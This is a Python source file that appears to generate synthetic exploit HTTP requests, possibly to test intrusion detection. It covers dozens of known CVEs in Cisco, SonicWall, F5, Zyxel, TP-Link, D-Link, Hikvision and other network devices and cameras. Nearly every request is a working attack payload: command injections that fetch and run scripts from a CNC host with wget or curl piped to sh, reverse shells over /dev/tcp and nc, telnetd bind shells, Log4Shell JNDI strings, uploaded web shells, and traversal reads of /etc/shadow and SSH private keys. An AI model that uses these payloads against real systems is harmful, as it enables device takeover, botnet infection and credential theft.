        headers=[["X-Csrf-Token", "4d5e6f7a"], ["Cookie", "Auth=Y2lzY29fdGFjX2FkbWluOlByMXYkRXNj"]],
        body=jdump({"installMethod": "tftp", "ipaddress": "1.1.1.1:1;wget http://%s/i -O /tmp/i;sh /tmp/i;" % pick(CNC, k),
                    "operation_type": "SMU", "filePath": "test", "fileSystem": "flash:"}),
        ctype="application/json", k=k))
    o.add("lfi", "asa-3452", request(
        "GET", "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../",
        "asa.example.com", k=k))
    o.add("lfi", "asa-3452", request(
        "GET", "/+CSCOT+/oem-customization?app=AnyConnect&type=oem&platform=..&resource-type=..&name=%2bCSCOE%2b/portal_inc.lua",
        "asa.example.com", k=k + 1))
    o.add("lfi", "asa-0296", request(
        "GET", "/+CSCOU+/../+CSCOE+/files/file_list.json?path=/sessions", "asa.example.com", k=k))
    o.add("lfi", "rv320-1653", request("GET", "/cgi-bin/config.exp", "198.51.100.200:8443", k=k))
    o.add("rce", "rv320-1652", request(
        "POST", "/certificate_handle2.htm?type=4", "198.51.100.200:8443",
        headers=[["Cookie", "mlap=RGVmYXVsdDoxOmNpc2NvOmNpc2Nv"]],
        body=form([("page", "self_generator.htm"), ("totalRules", "1"), ("OpenVPNRules", "30"), ("submitStatus", "1"),
                   ("log_ch", "1"), ("type", "4"), ("Country", "A"), ("state", "A"), ("locality", "A"), ("organization", "A"),
                   ("organization_unit", "A"), ("email", "ab%40example.com"), ("KeySize", "512"), ("KeyLength", "1024"),
                   ("valid_days", "30"), ("SelectSubject_c", "1"), ("SelectSubject_s", "1"),
                   ("common_name", "a'$(wget http://%s/rv -O /tmp/r; sh /tmp/r)'b" % pick(CNC, k))]),
        ctype="application/x-www-form-urlencoded", k=k))

    # --- SonicWall
    o.add("rce", "sonicwall-shellshock", request(
        "GET", "/cgi-bin/jarrewrite.sh", "sslvpn.example.com",
        ua="() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'", k=k))
    o.add("rce", "sonicwall-shellshock", request(
        "GET", "/cgi-bin/jarrewrite.sh", "203.0.113.61",
        ua="() { :; }; echo ; /bin/bash -c 'bash -i >& /dev/tcp/%s/8443 0>&1'" % pick(CNC, k), k=k + 1))
    o.add("session-fixation", "sonicos-53704", request(
        "GET", "/cgi-bin/sslvpnclient?launchplatform=mac&neProto=3&supportipv6=yes", "fw.example.org",
        headers=[["Cookie", "swap=" + b64(b"\x00" * 32)]], k=k))
    o.add("sqli", "sonicwall-sma-20028", request(
        "GET", "/cgi-bin/supportInstaller?fromEmailInvite=1&customerTID=unused%27%20UNION%20SELECT%20HEX(CAST(password%20AS%20BLOB)),1%20FROM%20Sessions%20WHERE%20rowid%3D%271",
        "sma.example.com", k=k))

    # --- Check Point CVE-2024-24919
    for i, f in enumerate(["aCSHELL/../../../../../../../etc/shadow", "aCSHELL/../../../../../../../etc/passwd",
                           "aCSHELL/../../../../../../../home/admin/.ssh/id_rsa", "CSHELL/../../../../../../../config/active"]):
        o.add("lfi", "checkpoint-24919", request(
            "POST", "/clients/MyCRL", pick(["vpn.example.net", "198.51.100.45", "remote.example.com"], i),
            body=f, ctype="application/x-www-form-urlencoded", accept=None, k=k + i))

    # --- Sophos
    o.add("generic", "sophos-1040", request(
        "POST", "/webconsole/Controller", "fw.example.com",
        headers=[["X-Requested-With", "XMLHttpRequest"]],
        body="mode=151&json=" + quote('{"username":"admin","password":"somethingnotpassword","languageid":"1","browser":"Chrome_101","accessaction":1,"mode\\u0000ef":716}', safe="")
        + "&__RequestType=ajax&t=1653896534066", ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("rce", "sophos-swa-1671", request(
        "POST", "/index.php?c=blocked&action=continue", "swa.example.com",
        body=form([("args_reason", "filetypewarn"), ("url", "18734"), ("filetype", "2131"), ("user", "9912"),
                   ("user_encoded", b64("';nc -e /bin/sh %s 4444 #" % pick(CNC, k)))]),
        ctype="application/x-www-form-urlencoded", ua="curl/7.88.1", k=k))
    o.add("rce", "sophos-swa-2013", request(
        "POST", "/end-user/index.php?c=blocked&action=continue", "swa.example.com",
        body="url=aHR0cDovL2V4YW1wbGUuY29t&args_reason=something_different_than_filetypewarn&filetype=dummy&user=buffalo"
             "&user_encoded=YnVmZmFsbw%3d%3d&domain=http%3a%2f%2fexample.com%3b%2fbin%2fnc%20-c%20%2fbin%2fbash%20"
             + pick(CNC, k) + "%204444&raw_category_id=one%7ctwo%7cthree%7cfour",
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("rce", "sophos-utm-25223", request(
        "POST", "/var", "utm.example.com",
        headers=[["X-Requested-With", "XMLHttpRequest"]],
        body=jdump({"objs": [{"FID": "|/usr/bin/id|"}], "SID": "|/usr/bin/wget http://%s/u -O /tmp/u|" % pick(CNC, k),
                    "browser": "gecko_linux", "backend_version": -1, "loc": "", "_cookie": None, "wdebug": 0,
                    "RID": "1629210675639_0.5000855117488202", "current_uuid": "", "ipv6": True}),
        ctype="application/json; charset=UTF-8", k=k))

    # --- Zyxel firewalls and NAS
    for i in range(2):
        o.add("rce", "zyxel-30525", request(
            "POST", "/ztp/cgi-bin/handler", pick(["usg.example.com", "203.0.113.150"], i),
            body=jdump({"command": "setWanPortSt", "proto": "dhcp", "port": "4", "vlan_tagged": "1", "vlanid": "5",
                        "mtu": pick(["; bash -c 'exec bash -i &>/dev/tcp/%s/4444 <&1';" % pick(CNC, k + i),
                                     "; curl -s http://%s/z.sh | sh;" % pick(CNC, k + i)], i),
                        "data": "hi"}),
            ctype="application/json", k=k + i))
    o.add("rce", "zyxel-nas-9054", request(
        "GET", "/adv,/cgi-bin/weblogin.cgi?username=admin%27%3Bid%3B%23&password=asdf", "nas.example.com", k=k))
    o.add("rce", "zyxel-nas-27992", request(
        "GET", "/cmd,/simZysh/register_main/setCookie?c0=storage_ext_cgi+CGIGetExtStoInfo+None)+and+False+or+__import__(%22subprocess%22).check_output(%22id%22,+shell=True)%23",
        "nas.example.com", k=k))
    o.add("rce", "zyxel-nas-29973", request(
        "POST", "/cmd,/simZysh/register_main/setCookie", "198.51.100.31",
        body="c0=storage_ext_cgi+CGIGetExtStoInfo+None)+and+False+or+__import__(%22os%22).system(%22" + quote_plus(dropper(k, "zyxel")) + "%22)%23",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "zyxel-p660-viewlog", request(
        "POST", "/cgi-bin/ViewLog.asp", "198.51.100.70",
        body="remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3b"
             + quote_plus(dropper(k + 1, "zyxel")) + "%3b%23&remoteSubmit=Save",
        ctype="application/x-www-form-urlencoded", ua="Mozilla/5.0", k=k))

    # --- F5 BIG-IP
    o.add("lfi", "bigip-5902", request(
        "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "bigip.example.com", k=k))
    o.add("rce", "bigip-5902", request(
        "GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin", "bigip.example.com", k=k + 1))
    o.add("lfi", "bigip-5902", request(
        "GET", "/tmui/login.jsp/%2E%2E;/tmui/locallb/workspace/fileRead.jsp?fileName=/config/bigip.license", "203.0.113.12", k=k + 2))
    o.add("rce", "bigip-22986", request(
        "POST", "/mgmt/tm/util/bash", "bigip.example.com",
        headers=[["Authorization", "Basic YWRtaW46"], ["X-F5-Auth-Token", ""]],
        body=jdump({"command": "run", "utilCmdArgs": "-c id"}), ctype="application/json", k=k))
    o.add("rce", "bigip-1388", request(
        "POST", "/mgmt/tm/util/bash", "198.51.100.240",
        headers=[["Connection", "keep-alive, X-F5-Auth-Token"], ["X-F5-Auth-Token", "a"], ["Authorization", "Basic YWRtaW46"]],
        body=jdump({"command": "run", "utilCmdArgs": "-c '%s'" % dropper(k, "f5")}), ctype="application/json", k=k + 1))
    ajp = ("0008HTTP/1.1\x00\x00\x0f/tmui/Control/form\x00\x00\x09127.0.0.1\x00\x00\x09localhost\x00\x00\x09localhost"
           "\x00\x00\x50\x00\x00\x03\xa0\x0b\x00\x09localhost\x00\x0a\x00\x0cREMOTEROLE\x00\x00\x010\x00\xa0\x0b\x00\x0dX-F5-Auth-Token\x00\xff")
    chunk = ajp.encode("latin-1").hex()
    o.add("protocol-attack", "bigip-46747", raw([
        "POST /tmui/login.jsp HTTP/1.1", "Host: bigip.example.com", "User-Agent: python-requests/2.31.0",
        "Transfer-Encoding: chunked, chunked", "Content-Type: application/x-www-form-urlencoded"],
        ("%x\r\n%s\r\n0\r\n\r\n" % (len(chunk), chunk)).encode()))

    # --- Juniper J-Web
    o.add("php", "junos-36845", request(
        "POST", "/?PHPRC=/dev/fd/0", "srx.example.com",
        body='auto_prepend_file="/etc/passwd"', ctype="application/x-www-form-urlencoded", k=k))
    o.add("php", "junos-36845", request(
        "POST", "/?PHPRC=/dev/fd/0", "203.0.113.202",
        body='allow_url_include=1\nauto_prepend_file="data://text/plain;base64,%s"' % b64("<?php system('id'); ?>"),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("php", "junos-36846", request(
        "POST", "/webauth_operation.php", "srx.example.com",
        body="rs=do_upload&rsargs[0]=" + quote('[{"fileData": "data:text/html;base64,%s", "fileName": "x.php", "csize": 44}]'
                                            % b64("<?php system($_GET['c']); ?>"), safe=""),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("php", "junos-36844", request(
        "POST", "/webauth_operation.php?PHPRC=/tmp/a.ini", "srx.example.com",
        body="rs=do_upload&rsargs[0]=" + quote('[{"fileData": "data:plain/text;base64,%s", "fileName": "a.ini", "csize": 40}]'
                                            % b64('auto_prepend_file="/tmp/x.php"'), safe=""),
        ctype="application/x-www-form-urlencoded", k=k + 1))


def attacks_routers(o):
    k = o.k
    # --- TP-Link Archer CVE-2023-1389: country field of the locale form
    for i in range(4):
        cmd = pick(["$(id>/tmp/x)", "$(" + dropper(k + i, "tplink") + ")", "`cd /tmp; wget http://%s/t; sh t`" % pick(CNC, k + i),
                    "$(busybox wget -qO- http://%s/tp|sh)" % pick(CNC, k + i)], i)
        o.add("rce", "tplink-1389", request(
            "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=" + quote(cmd, safe=""),
            pick(["198.51.100.10", "203.0.113.71", "192.0.2.140", "router.example.net"], i), k=k + i))
    o.add("rce", "tplink-ping", request(
        "GET", "/userRpm/PingIframeRpm.htm?ping_addr=" + quote(";" + dropper(k, "tplink"), safe="")
        + "&doType=ping&isNew=new&sendNum=4&pSize=64&overTime=800&trHops=20",
        "192.168.0.1", headers=[["Referer", "http://192.168.0.1/userRpm/DiagnosticRpm.htm"],
                                ["Authorization", "Basic YWRtaW46YWRtaW4="]], k=k))
    # --- D-Link
    for i in range(2):
        o.add("rce", "dlink-hnap", request(
            "POST", "/HNAP1/", pick(["198.51.100.11:8080", "203.0.113.72"], i),
            headers=[["SOAPAction", '"http://purenetworks.com/HNAP1/`%s`"' % pick(["cd /tmp && rm -rf * && wget http://%s/d.sh && sh d.sh" % pick(CNC, k), "telnetd -p 9090 -l /bin/sh"], i)]],
            body=soap("<GetDeviceSettings/>"), ctype="text/xml; charset=utf-8", ua="Mozilla/5.0", k=k + i))
    o.add("generic", "dlink-getcfg", request(
        "POST", "/getcfg.php", "198.51.100.12",
        body="SERVICES=DEVICE.ACCOUNT%0aAUTHORIZED_GROUP=1", ctype="application/x-www-form-urlencoded", k=k))
    for i, cmd in enumerate(["id", "wget http://%s/w -O /tmp/w; sh /tmp/w" % pick(CNC, k)]):
        o.add("rce", "dlink-3273", request(
            "GET", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=" + quote(b64(cmd), safe=""),
            pick(["nas.example.org", "203.0.113.73"], i), k=k + i))
    o.add("rce", "dlink-dsl-login", request(
        "GET", "/login.cgi?cli=aa%20aa%27;wget%20http://" + pick(CNC, k) + "/mips%20-O%20-%3E%20/tmp/gaf;sh%20/tmp/gaf%27$",
        "198.51.100.13", ua="Hello, World", k=k))
    o.add("rce", "dlink-command-php", request(
        "POST", "/command.php", "198.51.100.14:8080",
        body="cmd=" + quote_plus(dropper(k + 2, "dlink")), ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "dlink-17621", raw([
        "SUBSCRIBE /gena.cgi?service=`telnetd -p 7080 -l /bin/sh` HTTP/1.1", "Host: 192.168.0.1:49152",
        "Callback: <http://192.168.0.4:34033/ServiceProxy27>", "NT: upnp:event", "Timeout: Second-1800",
        "User-Agent: Mozilla/5.0"]))
    o.add("lfi", "dlink-dcs-25078", request("GET", "/config/getuser?index=0", "cam.example.net", k=k))
    # --- Netgear
    o.add("rce", "netgear-setup-mozi", request(
        "GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://" + pick(CNC, k)
        + ":8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", "198.51.100.15", ua="Hello, world", k=k))
    o.add("rce", "netgear-setup-syscmd", request(
        "GET", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=cat+/www/.htpasswd&curpath=/&currentsetting.htm=1",
        "198.51.100.16", k=k))
    o.add("rce", "netgear-cgi-bin", request("GET", "/cgi-bin/;cat$IFS/etc/passwd", "198.51.100.17:8443", k=k))
    o.add("rce", "netgear-cgi-bin", request(
        "GET", "/cgi-bin/;cd${IFS}/var/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://" + pick(CNC, k + 1) + "/n.sh;sh${IFS}n.sh",
        "198.51.100.18", k=k + 1))
    o.add("rce", "netgear-1555", request(
        "POST", "/boardDataWW.php", "198.51.100.19",
        body="macAddress=000000000000%3B" + quote_plus(dropper(k, "netgear")) + "%3B&reginfo=0&writeData=Submit",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "netgear-ping-cgi", request(
        "POST", "/ping.cgi", "192.168.1.1",
        headers=[["Referer", "http://192.168.1.1/DIAG_diag.htm"], ["Authorization", "Basic YWRtaW46cGFzc3dvcmQ="]],
        body="IPAddr1=12&IPAddr2=12&IPAddr3=12&IPAddr4=12&ping=Ping&ping_IPAddr=12.12.12.12%3B" + quote_plus(dropper(k + 1, "dgn")),
        ctype="application/x-www-form-urlencoded", k=k))
    # --- Linksys
    o.add("rce", "linksys-tmunblock", request(
        "POST", "/tmUnblock.cgi", "198.51.100.20:8080",
        headers=[["Authorization", "Basic YWRtaW46YWRtaW4="]],
        body="%73%75%62%6D%69%74%5F%62%75%74%74%6F%6E=&%63%68%61%6E%67%65%5F%61%63%74%69%6F%6E=&%61%63%74%69%6F%6E=&%63%6F%6D%6D%69%74=0"
             "&%74%74%63%70%5F%6E%75%6D=2&%74%74%63%70%5F%73%69%7A%65=2&%74%74%63%70%5F%69%70=-h+%60cd+%2Ftmp%3B+rm+-rf+"
             "mips%3B+wget+http%3A%2F%2F" + pick(CNC, k) + "%2Fmips%3B+chmod+777+mips%3B+.%2Fmips+linksys%60&%53%74%61%72%74%45%50%49=1",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "linksys-apply-ping", request(
        "POST", "/apply.cgi", "198.51.100.21",
        headers=[["Authorization", "Basic YWRtaW46YWRtaW4="]],
        body="submit_button=Diagnostics&change_action=gozila_cgi&submit_type=start_ping&action=&commit=0&ping_ip=127.0.0.1"
             "&ping_size=%26" + quote_plus(dropper(k + 3, "linksys")) + "&ping_times=5&traceroute_ip=",
        ctype="application/x-www-form-urlencoded", k=k))
    # --- ASUS
    o.add("rce", "asus-apply-systemcmd", request(
        "POST", "/apply.cgi", "198.51.100.22",
        body="current_page=Main_Analysis_Content.asp&next_page=Main_Analysis_Content.asp&group_id=&modified=0&action_mode=+Refresh+"
             "&action_script=&action_wait=&first_time=&preferred_lang=EN&SystemCmd=" + quote_plus("ping -c 1 127.0.0.1;" + dropper(k, "asus"))
             + "&firmver=3.0.0.4&cmdMethod=ping&destIP=127.0.0.1&pingCNT=1",
        ctype="application/x-www-form-urlencoded", k=k))
    # --- Huawei HG532 CVE-2017-17215
    for i in range(2):
        o.add("rce", "huawei-17215", request(
            "POST", "/ctrlt/DeviceUpgrade_1", pick(["198.51.100.23:37215", "203.0.113.74:37215"], i),
            headers=[["Authorization", 'Digest username="dslf-config", realm="HuaweiHomeGateway", nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", nc=00000001, cnonce="248d1a2560100669"']],
            body=('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
                  's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">'
                  '<NewStatusURL>$(/bin/busybox wget -g %s -l /tmp/binary -r /%s; /bin/busybox chmod 777 * /tmp/binary; /tmp/binary huawei.rep)</NewStatusURL>'
                  '<NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade></s:Body></s:Envelope>' % (pick(CNC, k + i), pick(ARCHES, k + i))),
            ctype="text/xml", ua="Hello, World", accept=None, k=k + i))
    # --- Realtek SDK miniigd CVE-2014-8361
    o.add("rce", "realtek-8361", request(
        "POST", "/picsdesc.xml", "198.51.100.24:52869",
        headers=[["SOAPAction", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"]],
        body=soap('<m:AddPortMapping xmlns:m="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost>'
                  '<NewExternalPort>47450</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>'
                  '<NewInternalClient>`cd /var; rm -rf nig; wget http://%s/nig; chmod 777 nig; ./nig realtek`</NewInternalClient>'
                  '<NewEnabled>1</NewEnabled><NewPortMappingDescription>syncthing</NewPortMappingDescription>'
                  '<NewLeaseDuration>0</NewLeaseDuration></m:AddPortMapping>' % pick(CNC, k)),
        ctype="text/xml", k=k))
    o.add("rce", "realtek-8361", request(
        "POST", "/wanipcn.xml", "203.0.113.75:52869",
        headers=[["SOAPAction", "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"]],
        body=soap('<m:AddPortMapping xmlns:m="urn:schemas-upnp-org:service:WANIPConnection:1"><NewRemoteHost></NewRemoteHost>'
                  '<NewExternalPort>47451</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>'
                  '<NewInternalClient>$(%s)</NewInternalClient><NewEnabled>1</NewEnabled>'
                  '<NewPortMappingDescription>x</NewPortMappingDescription><NewLeaseDuration>0</NewLeaseDuration>'
                  '</m:AddPortMapping>' % dropper(k + 5, "realtek")),
        ctype="text/xml", k=k + 1))
    # --- TR-064 on 7547 (Zyxel/Eir D1000 era)
    o.add("rce", "tr064-ntp", request(
        "POST", "/UD/act?1", "198.51.100.25:7547",
        headers=[["SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers"]],
        body=soap('<u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>`cd /tmp;wget http://%s/1;chmod 777 1;./1`</NewNTPServer1>'
                  '<NewNTPServer2></NewNTPServer2><NewNTPServer3></NewNTPServer3><NewNTPServer4></NewNTPServer4>'
                  '<NewNTPServer5></NewNTPServer5></u:SetNTPServers>' % pick(CNC, k)),
        ctype="text/xml", ua="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", k=k))
    # --- ZTE
    o.add("rce", "zte-web-shell-cmd", request(
        "POST", "/web_shell_cmd.gch", "198.51.100.26",
        body="IF_ACTION=apply&IF_ERRORSTR=SUCC&IF_ERRORPARAM=SUCC&IF_ERRORTYPE=-1&Cmd=" + quote_plus(dropper(k, "zte")) + "&CmdAck=",
        ctype="application/x-www-form-urlencoded", k=k))
    # --- GPON CVE-2018-10561 / 10562
    for i in range(2):
        o.add("rce", "gpon-10562", request(
            "POST", "/GponForm/diag_Form?images/", pick(["198.51.100.27:8080", "203.0.113.76"], i),
            body="XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host="
                 + pick(["`busybox+wget+http://%s/gpon+-O+/tmp/gaf;sh+/tmp/gaf`" % pick(CNC, k), "``;wget+http://%s/mozi.m+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0" % pick(CNC, k + 1)], i)
                 + ("&ipv=0" if i == 0 else ""),
            ctype="application/x-www-form-urlencoded", ua="Hello, World", k=k + i))
    # --- Realtek boa (boaform)
    o.add("rce", "boaform-ping", request(
        "POST", "/boaform/admin/formPing", "198.51.100.28",
        body="target_addr=%3B" + quote_plus(dropper(k, "boa")) + "&waninf=1_INTERNET_R_VID_154",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "boaform-tracert", request(
        "POST", "/boaform/admin/formTracert", "198.51.100.29",
        body="target_addr=" + quote_plus(";wget http://%s/t -O /tmp/t;sh /tmp/t;" % pick(CNC, k + 1)) + "&waninf=1_INTERNET_R_VID_154",
        ctype="application/x-www-form-urlencoded", k=k + 1))
    # --- Tenda
    o.add("rce", "tenda-10987", request(
        "GET", "/goform/setUsbUnload/.js?deviceName=A;" + quote(dropper(k, "tenda"), safe=";/:"), "198.51.100.30", k=k))
    o.add("rce", "tenda-telnet", request(
        "POST", "/goform/setUsbUnload", "203.0.113.78",
        body="deviceName=" + quote_plus("A;telnetd -l /bin/sh -p 8888"), ctype="application/x-www-form-urlencoded", k=k + 1))
    # --- TOTOLINK
    o.add("rce", "totolink-cstecgi", request(
        "POST", "/cgi-bin/cstecgi.cgi", "198.51.100.31",
        body=jdump({"topicurl": "setting/setUpgradeFW", "FileName": ";%s;" % dropper(k + 2, "toto")}),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "totolink-cstecgi", request(
        "POST", "/cgi-bin/cstecgi.cgi", "203.0.113.79",
        body=jdump({"topicurl": "setLanguageCfg", "langType": "$(wget http://%s/tt -O /tmp/tt && sh /tmp/tt)" % pick(CNC, k + 3)}),
        ctype="application/x-www-form-urlencoded", k=k + 1))
    o.add("rce", "lblink-26801", request(
        "POST", "/goform/set_LimitClient_cfg", "198.51.100.32",
        headers=[["Cookie", "user=admin"]],
        body="time1=00:00-00:00&time2=00:00-00:00&mac=" + quote_plus(";" + dropper(k + 4, "lblink") + ";"),
        ctype="application/x-www-form-urlencoded", k=k))
    # --- DrayTek CVE-2020-8515
    o.add("rce", "draytek-8515", request(
        "POST", "/cgi-bin/mainfunction.cgi", "198.51.100.33",
        body="action=login&keyPath=%27%0A%2fbin%2fsh${IFS}-c${IFS}" + quote("'" + ifs("cd /tmp; wget http://%s/dr; sh dr" % pick(CNC, k)) + "'", safe="/$")
             + "%0A%27&loginUser=a&loginPwd=a",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "draytek-8515", request(
        "POST", "/cgi-bin/mainfunction.cgi", "203.0.113.80",
        body="action=login&keyPath=1&loginUser=a&loginPwd=a&rtick=%60id%60", ctype="application/x-www-form-urlencoded", k=k + 1))
    # --- Ruckus, Four-Faith, Telesquare, Arcadyan (Buffalo and others)
    o.add("rce", "ruckus-25717", request(
        "GET", "/forms/doLogin?login_username=admin&password=password" + quote("$(curl %s/r.sh|sh)" % pick(CNC, k), safe="/")
        + "&x=0&y=0", "198.51.100.34", k=k))
    o.add("rce", "fourfaith-12856", request(
        "POST", "/apply.cgi", "198.51.100.35",
        headers=[["Authorization", "Basic YWRtaW46YWRtaW4="]],
        body="change_action=gozila_cgi&submit_button=date&submit_type=date&adj_time_year=2024&adj_time_mon=10&adj_time_day=10"
             "&adj_time_hour=11&adj_time_min=11&adj_time_sec=" + quote_plus("';" + dropper(k, "ff") + ";'"),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("rce", "telesquare-46422", request(
        "GET", "/cgi-bin/admin.cgi?Command=sysCommand&Cmd=" + quote(pick(["id", "cat /etc/passwd", "wget http://%s/sq -O- | sh" % pick(CNC, k)], k), safe=""),
        "198.51.100.36", k=k))
    o.add("lfi", "arcadyan-20090", request(
        "GET", "/images/..%2finfo.html", "198.51.100.37", k=k))
    o.add("rce", "arcadyan-20090", request(
        "POST", "/images/..%2fapply_abstract.cgi", "198.51.100.38",
        headers=[["Referer", "http://198.51.100.38/images/..%2finfo.html"]],
        body="action=start_ping&httoken=0aa2b1e3f47d&submit_button=ping.html&action_params=blink_time%3D5&ARC_ping_ipaddress=127.0.0.1"
             "%0AARC_SYS_TelnetdEnable=1&ARC_ping_status=0&TMP_Ping_Type=4",
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("java", "unifi-log4shell", request(
        "POST", "/api/login", "unifi.example.com:8443",
        body=jdump({"username": "admin", "password": "password", "remember": "${jndi:ldap://%s:1389/o=tomcat}" % pick(CNC, k), "strict": True}),
        ctype="application/json; charset=utf-8", k=k))
    o.add("java", "horizon-log4shell", request(
        "GET", "/portal/info.jsp", "horizon.example.com",
        headers=[["Accept-Language", "${jndi:${lower:l}${lower:d}ap://%s:1389/Basic/Command/Base64/%s}" % (pick(CNC, k + 1), b64("curl http://%s/h|sh" % pick(CNC, k + 1)))]],
        k=k + 1))


def attacks_cameras_nas(o):
    k = o.k
    # --- Hikvision CVE-2021-36260: command in the webLanguage element
    for i, cmd in enumerate(["id>webLib/x", "$(%s)" % dropper(k, "hik"), "echo 'P3J0' | base64 -d >webLib/c",
                             "wget http://%s/h -O /tmp/h; chmod +x /tmp/h; /tmp/h" % pick(CNC, k + 1)]):
        if cmd.startswith("$("):
            lang = cmd
        else:
            lang = "$(%s)" % cmd
        o.add("rce", "hikvision-36260", request(
            "PUT", "/SDK/webLanguage", pick(["cam01.example.net", "203.0.113.81", "198.51.100.39:8080", "192.0.2.81"], i),
            headers=[["X-Requested-With", "XMLHttpRequest"]],
            body='<?xml version="1.0" encoding="UTF-8"?><language>%s</language>' % xml_esc(lang),
            ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k + i))
    # CVE-2017-7921: the magic auth parameter
    for i, p in enumerate(["/Security/users?auth=YWRtaW46MTEK", "/onvif-http/snapshot?auth=YWRtaW46MTEK",
                           "/System/configurationFile?auth=YWRtaW46MTEK", "/ISAPI/Security/users?auth=YWRtaW46MTEK"]):
        o.add("generic", "hikvision-7921", request("GET", p, pick(["cam02.example.net", "198.51.100.40"], i), k=k + i))
    o.add("lfi", "hikvision-isecure", request(
        "POST", "/center/api/files;.js", "isc.example.com",
        body=multipart([('name="file"; filename="../../../../../bin/tomcat/apache-tomcat/webapps/clusterMgr/v.jsp"',
                         '<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).useDelimiter("\\\\A").next()); %>',
                         ["Content-Type: application/octet-stream"])], BOUNDARIES[0]),
        ctype="multipart/form-data; boundary=" + BOUNDARIES[0], k=k))
    # --- Dahua
    o.add("generic", "dahua-33044", request(
        "POST", "/RPC2_Login", "dvr.example.com",
        headers=[["X-Requested-With", "XMLHttpRequest"], ["Origin", "http://dvr.example.com"]],
        body=jdump({"method": "global.login", "params": {"userName": "admin", "password": "Not Used", "clientType": "NetKeyboard",
                                                          "loginType": "Direct", "authorityType": "Default", "passwordType": "Default"},
                    "id": 1, "session": 0}),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("generic", "dahua-33045", request(
        "POST", "/RPC2_Login", "198.51.100.41",
        body=jdump({"method": "global.login", "params": {"userName": "admin", "password": "", "clientType": "Local",
                                                          "loginType": "Loopback", "authorityType": "Default", "passwordType": "Default",
                                                          "ipAddr": "127.0.0.1"}, "id": 1, "session": 0}),
        ctype="application/json", k=k + 1))
    o.add("lfi", "dahua-current-config", request("GET", "/current_config/passwd", "198.51.100.42", k=k))
    o.add("lfi", "dahua-current-config", request("GET", "/current_config/Account1", "198.51.100.43", k=k + 1))
    o.add("lfi", "dahua-dss-ssrf", request(
        "GET", "/portal/attachment_downloadByUrlAtt.action?filePath=file:///etc/passwd", "dss.example.com", k=k))
    o.add("generic", "dahua-smartpark", request(
        "GET", "/admin/user_getUserInfoByUserName.action?userName=system", "park.example.com", k=k))
    o.add("rce", "dahua-console", request(
        "GET", "/cgi-bin/configManager.cgi?action=setConfig&NTP.Address=" + quote("pool.ntp.org;" + dropper(k + 2, "dahua"), safe=""),
        "198.51.100.44", headers=[["Authorization", "Basic YWRtaW46YWRtaW4="]], k=k))
    # --- Uniview
    o.add("generic", "uniview-main-cgi", request(
        "GET", "/cgi-bin/main-cgi?json=" + quote('{"cmd":255,"szUserName":"","u32UserLoginHandle":-1}', safe=""),
        "nvr.example.com", k=k))
    # --- TVT
    o.add("rce", "tvt-crossweb", request(
        "GET", "/language/Swedish${IFS}&&cd${IFS}/tmp;rm${IFS}-rf${IFS}*;wget${IFS}http://" + pick(CNC, k)
        + "/tvt;sh${IFS}/tmp/tvt&&tar${IFS}/string.js", "198.51.100.45:81", ua="Hello, World", k=k))
    o.add("rce", "tvt-crossweb", request(
        "GET", "/language/Swedish${IFS}&&echo${IFS}1>test&&tar${IFS}/string.js", "203.0.113.82:81", k=k + 1))
    o.add("rce", "tvt-nvms9000", request(
        "POST", "/editBlackAndWhiteList", "198.51.100.46:4567",
        headers=[["Authorization", "Basic YWRtaW46ezEyMjEzQkQxLTY5QzctNDg2Mi04NDNELTI2MDUwMEQxREE0MH0="]],
        body=('<?xml version="1.0" encoding="utf-8"?><request version="1.0" systemType="NVMS-9000" clientType="WEB">'
              '<types><filterTypeMode><enum>refuse</enum><enum>allow</enum></filterTypeMode>'
